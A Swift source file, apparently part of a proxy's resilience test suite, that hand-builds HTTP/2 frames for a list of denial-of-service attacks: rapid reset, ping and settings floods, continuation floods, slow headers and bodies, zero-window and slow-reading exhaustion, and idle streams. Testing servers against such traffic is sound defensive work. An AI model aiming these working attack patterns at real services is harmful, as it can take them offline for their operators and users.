import NIOCore

extension Attack {
    /// What is done to a proxy by those who speak HTTP/2.
    static let http2 = [
        Attack(name: "h2 silent", connections: 20, opening: HTTP2Bytes.opening()),
        Attack(name: "h2 rapid reset", connections: 3, opening: HTTP2Bytes.opening(), every: .milliseconds(50)) {
            HTTP2Bytes.repeated(20, from: $0) { HTTP2Bytes.get($0) + HTTP2Bytes.frame(3, 0, $0, [0, 0, 0, 8]) }
        },
        Attack(name: "h2 pings", connections: 3, opening: HTTP2Bytes.opening(), every: .milliseconds(50)) {
            HTTP2Bytes.repeated(100, from: $0) { _ in HTTP2Bytes.frame(6, 0, 0, [UInt8](repeating: 1, count: 8)) }
        },
        Attack(name: "h2 settings", connections: 3, opening: HTTP2Bytes.opening(), every: .milliseconds(50)) {
            HTTP2Bytes.repeated(100, from: $0) { _ in HTTP2Bytes.frame(4, 0, 0, []) }
        },
        // Asks for answers to pings and never takes them.
        Attack(
            name: "h2 unread pings",
            connections: 3,
            opening: HTTP2Bytes.opening(),
            every: .milliseconds(50),
            reads: false
        ) {
            HTTP2Bytes.repeated(100, from: $0) { _ in HTTP2Bytes.frame(6, 0, 0, [UInt8](repeating: 1, count: 8)) }
        },
        Attack(
            name: "h2 continuations",
            connections: 3,
            opening: HTTP2Bytes.opening() + HTTP2Bytes.frame(1, 1, 1, HTTP2Bytes.getSection),
            every: .milliseconds(50)
        ) { _ in HTTP2Bytes.frame(9, 0, 1, HTTP2Bytes.field(value: 10_000)) },
        Attack(
            name: "h2 slow head",
            connections: 20,
            opening: HTTP2Bytes.opening() + HTTP2Bytes.frame(1, 1, 1, HTTP2Bytes.getSection),
            every: .milliseconds(500)
        ) { _ in HTTP2Bytes.frame(9, 0, 1, HTTP2Bytes.field(value: 1)) },
        Attack(
            name: "h2 slow body",
            connections: 20,
            opening: HTTP2Bytes.opening() + HTTP2Bytes.frame(1, 4, 1, HTTP2Bytes.postSection)
        ) { _ in HTTP2Bytes.frame(0, 0, 1, [0x62]) },
        // A hundred answers at once for each, of which nothing may be sent.
        Attack(
            name: "h2 zero window",
            connections: 4,
            opening: HTTP2Bytes.opening(window: 0)
                + HTTP2Bytes.repeated(100, from: 0) { HTTP2Bytes.get($0, path: "/large") }
        ),
        // As many that may be sent, and that nobody takes from the socket.
        Attack(
            name: "h2 slow reading",
            connections: 4,
            opening: HTTP2Bytes.opening(window: 1 << 30)
                + HTTP2Bytes.repeated(100, from: 0) { HTTP2Bytes.get($0, path: "/large") },
            reads: false
        ),
        // Opens all it may, and sends nothing on any.
        Attack(
            name: "h2 open streams",
            connections: 4,
            opening: HTTP2Bytes.opening()
                + HTTP2Bytes.repeated(100, from: 0) { HTTP2Bytes.frame(1, 4, $0, HTTP2Bytes.postSection) }
        ),
    ]
}

/// Frames, made by hand: what an implementation sends is too well-behaved.
private enum HTTP2Bytes {
    /// `:method GET`, `:scheme http`, `:path /`, `:authority a`.
    static let getSection: [UInt8] = [0x82, 0x86, 0x84, 0x41, 0x01, 0x61]
    static let postSection: [UInt8] = [0x83, 0x86, 0x84, 0x41, 0x01, 0x61]

    static func opening(window: UInt32 = 65_535) -> [UInt8] {
        let widened: [UInt8] = window == 0 ? [] : self.frame(8, 0, 0, self.bytes((1 << 31) - 1 - 65_535))
        return Array("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".utf8) + self.frame(4, 0, 0, [0, 4] + self.bytes(window))
            + widened
    }

    static func frame(_ kind: UInt8, _ flags: UInt8, _ stream: UInt32, _ payload: [UInt8]) -> [UInt8] {
        self.bytes(UInt32(payload.count)).dropFirst() + [kind, flags] + self.bytes(stream) + payload
    }

    /// A request without a body.
    static func get(_ stream: UInt32, path: String = "/") -> [UInt8] {
        let section: [UInt8] = [0x82, 0x86, 0x04, UInt8(path.utf8.count)] + Array(path.utf8) + [0x41, 0x01, 0x61]
        return self.frame(1, 5, stream, section)
    }

    /// `x: vvv…`, not to be indexed.
    static func field(value count: Int) -> [UInt8] {
        // An integer with a prefix of 7 bits (RFC 7541 §5.1).
        var length: [UInt8] = []
        if count < 127 {
            length = [UInt8(count)]
        } else {
            length = [127]
            var rest = count - 127
            while rest >= 128 {
                length.append(UInt8(rest % 128) | 0x80)
                rest /= 128
            }
            length.append(UInt8(rest))
        }
        return [0x00, 0x01, 0x78] + length + [UInt8](repeating: 0x76, count: count)
    }

    /// Frames for as many streams of a client's, or as often.
    static func repeated(_ count: Int, from round: Int, _ make: (UInt32) -> [UInt8]) -> [UInt8] {
        (0..<count).flatMap { make(UInt32(2 * (round * count + $0) + 1)) }
    }

    private static func bytes(_ number: UInt32) -> [UInt8] {
        [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) }
    }
}
